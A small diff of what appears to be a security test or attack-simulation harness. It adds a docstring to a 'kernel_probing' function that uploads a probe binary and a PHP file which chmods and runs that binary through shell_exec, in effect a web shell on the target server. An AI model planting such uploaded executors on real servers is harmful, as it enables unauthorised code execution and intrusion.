@@ -127,6 +127,7 @@ r = pc""")
 
 
 def kernel_probing(enemy):
+    """A program asks the kernel what it lets an ordinary user do, as one does before choosing an exploit."""
     enemy.upload("cover.bin", enemy.tool("probe"))
     enemy.upload("cover.php", b"<?php chmod(__DIR__ . '/cover.bin', 0755); echo shell_exec(__DIR__ . '/cover.bin 2>&1');")
     if b"probed" in enemy.php("cover.php"):
